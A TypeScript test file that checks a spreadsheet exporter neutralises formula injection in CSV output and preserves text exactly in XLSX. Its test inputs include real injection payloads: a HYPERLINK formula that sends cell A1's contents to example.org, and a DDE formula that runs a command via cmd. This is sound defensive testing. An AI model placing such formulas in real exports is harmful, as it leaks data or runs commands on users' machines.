import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import readWorkbook from 'read-excel-file/node';
import { expect, test } from 'vitest';
import { writeCsv } from '#lib/spreadsheet/csv-writer.ts';
import type { Cell } from '#lib/spreadsheet/table.ts';
import { createTableWriter } from './table-writer.ts';

const tables = createTableWriter('Asia/Kolkata');

const write = (
  format: 'csv' | 'xlsx',
  rows: Cell[][],
  titles = rows[0]?.map((_, n) => `Column ${n}`) ?? [],
) =>
  tables.write(format, {
    name: 'People',
    columns: titles.map((title, n) => ({ title, cell: (row: Cell[]) => row[n] ?? null })),
    rows,
  });

const textOfCsv = (rows: Cell[][]) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(writeCsv(rows, 'Asia/Kolkata'));

/** The cells, as a spreadsheet program reads them. */
const readCsv = (rows: Cell[][]): string[][] =>
  parse(textOfCsv(rows), { bom: true, relax_column_count: true });

async function readXlsx(rows: Cell[][]) {
  const file = await write('xlsx', rows);
  const [sheet] = await readWorkbook(Buffer.from(await file.arrayBuffer()), { trim: false });
  return sheet?.data.slice(1);
}

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '"=1+1"',
  "'=1+1",
  ' " =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=HYPERLINK("http://example.org?"&A1,"here")',
  "=cmd|' /C calc'!A0",
];

test.each(formulas)('%j is text in a CSV', (formula) => {
  expect(readCsv([[formula, 'next']])).toEqual([[`'${formula}`, 'next']]);
});

test('a formula in a heading is text too', async () => {
  const file = await write('csv', [['x']], ['=1+1']);
  expect(await file.text()).toContain("'=1+1");
});

test('no cell of a CSV starts a formula, whatever it holds', () => {
  const cell = fc.oneof(fc.string(), fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n "\'＝a1') }));
  fc.assert(
    fc.property(cell, (text) => {
      const [[read = ''] = []] = readCsv([[text, 'x']]);
      expect([text, `'${text}`]).toContain(read);
      expect(read).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]|^[\t\r\n]/);
    }),
  );
});

test.each([
  '007',
  '1234567890123456',
  '12E5',
  '3-4',
  '10/11/2026',
  '12:30',
  'MAR1',
  '1 May 2026',
  '26DEC01',
  '1.50',
  'TRUE',
  '+919876543210',
])('%j keeps its shape in a CSV behind an apostrophe', (text) => {
  expect(readCsv([[text, 'x']])).toEqual([[`'${text}`, 'x']]);
});

test.each(['26GCS03', '2631045', 'GCS/26/003', 'Asha Verma', "D'Souza", 'May', 'a-b', '3rd year'])(
  '%j is unchanged in a CSV',
  (text) => {
    expect(readCsv([[text, 'x']])).toEqual([[text, 'x']]);
  },
);

test('a CSV is UTF-8 with its mark, its lines end with CR LF, and what needs quotes has them', () => {
  const rows = [
    ['Name', 'Note'],
    ['अनीता', 'a,b'],
    ['"q"', 'two\nlines'],
    [null, 7],
    [-1.5, new Date('2026-11-21T19:30:00Z')],
  ];
  expect(textOfCsv(rows)).toBe(
    '\ufeffName,Note\r\nअनीता,"a,b"\r\n"""q""","two\nlines"\r\n,7\r\n-1.5,2026-11-22 01:00\r\n',
  );
});

test('an XLSX holds text character for character, whatever it looks like', async () => {
  const texts = [...formulas, '007', '+919876543210', '1234567890123456', 'MAR1', '<&>"\'', ' blank '];
  const read = await readXlsx(texts.map((text) => [text, 'x']));
  // XML normalizes line ends to LF.
  expect(read).toEqual(texts.map((text) => [text.replace('\r', '\n'), 'x']));
});

test("an XLSX holds numbers as numbers, times in the institute's time zone, and empty cells", async () => {
  expect(await readXlsx([[-1.5, null, new Date('2026-11-21T19:30:00Z')]])).toEqual([
    [-1.5, null, new Date('2026-11-22T01:00:00Z')],
  ]);
});

test('an XLSX keeps everything in its cells, even characters that XML forbids, unless it is too long', async () => {
  const signs = 'a\u0000\u0001\u000b\u001f\ufffd\ufffe\uffffb';
  const read = await readXlsx([[signs, 'x'.repeat(40_000), '_x0041_', 'constructor']]);
  expect(read).toEqual([[signs, 'x'.repeat(32_767), '_x0041_', 'constructor']]);
});

test('a file has its name and its type', async () => {
  expect(await write('csv', [])).toMatchObject({ name: 'People.csv', type: 'text/csv' });
  expect(await write('xlsx', [])).toMatchObject({ name: 'People.xlsx' });
});

test('an invalid name of a sheet is changed to a valid one', async () => {
  const name = 'Batch [2026]: a/b? and a good deal more of words';
  const file = await tables.write('xlsx', { name, columns: [{ title: 'A', cell: String }], rows: [1] });
  const [sheet] = await readWorkbook(Buffer.from(await file.arrayBuffer()));
  expect(sheet?.sheet).toBe('Batch  2026   a b  and a good d');
});

test('a long table delays nothing else on this node, and calls beyond the queue are refused', async () => {
  const rows = Array.from({ length: 5_000 }, (_, n) => [`T${n}`, `Somebody ${n}`, n, new Date(n * 1e9)]);
  const tables = createTableWriter('Asia/Kolkata', 1);
  const columns = [0, 1, 2, 3].map((n) => ({ title: `C${n}`, cell: (row: Cell[]) => row[n] ?? null }));
  const write = () => tables.write('xlsx', { name: 'Long', columns, rows });
  const files = Promise.all([write(), write()]);
  await expect(write()).rejects.toMatchObject({ code: 'busy' });
  let ticks = 0;
  const ticking = setInterval(() => ticks++, 5);
  await files;
  clearInterval(ticking);
  expect(ticks).toBeGreaterThan(20);
});
